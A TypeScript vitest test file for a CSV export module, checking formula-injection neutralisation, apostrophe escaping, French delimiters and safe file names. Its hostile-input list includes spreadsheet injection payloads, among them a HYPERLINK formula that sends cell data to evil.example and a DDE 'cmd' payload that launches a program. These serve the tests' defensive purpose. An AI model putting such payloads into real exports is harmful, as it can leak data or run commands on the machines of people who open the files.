import { expect, test } from 'vitest';
import { csvOf, fileName, harmless } from './csv';

const hostile = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\ufeff=1+1', '\0=1+1'],
  ...[
    '\u200b=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
  ],
  ...['x;=1+1', 'x,=1+1', 'x\t=1+1', 'x\n=1+1', 'x\r\n=1+1', 'x";=1+1', '"=1+1"', '""=1+1', "' =1+1", 'x|=1+1'],
  ...['a;b;-1', 'x; "+1', 'x\v=1', 'x\f=1', 'x\u0085=1', 'x\u2028=1', 'x\u2029=1', '\v=1', '\x1b=1', '-', 'x;-)'],
  ...['x;=HYPERLINK("http://evil.example")', '- a list\n- of two', ' lead', 'trail ', '"', "'", '😀=1', '日本語'],
];

test('however a program splits the file, no piece of it begins as a formula', () => {
  for (const text of hostile) {
    for (const language of ['en', 'fr'] as const) {
      const pieces = csvOf([['before', text, 'after']], language).split(/[,;|\t\r\n\v\f\u0085\u2028\u2029]/);
      for (const piece of pieces) expect(piece, text).not.toMatch(/^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u);
    }
  }
});

test('the first sign of a text gets an apostrophe, others do not', () => {
  const signs = { '=1': "'=1", '-1': "'-1", '\ta': "'\ta", '\na': "'\na", 'a=1': 'a=1', 'a-b': 'a-b', '': '' };
  for (const [text, want] of Object.entries(signs)) expect(harmless(text)).toBe(want);
});

test('numbers are bare; the file of a French reader has semicolons and decimal commas', () => {
  const rows = [
    ['a', 'b; c', null],
    [-1234.5, 'été', Number.NaN],
  ];
  expect(csvOf(rows, 'en')).toBe('a,"b; c",\r\n-1234.5,été,\r\n');
  expect(csvOf(rows, 'fr')).toBe('a;"b; c";\r\n-1234,5;été;\r\n');
});

test('a file has a name that every system takes', () => {
  expect(fileName('burnup', 'Paiement à l’étape 2', 'epic')).toBe('burnup-paiement-a-l-etape-2');
  expect(fileName('burndown', 'été', 'sprint')).toBe('burndown-ete');
  expect(fileName('burnup', '…', 'epic')).toBe('burnup--');
  expect(fileName('burnup', '', 'epic')).toBe('burnup-epic');
});
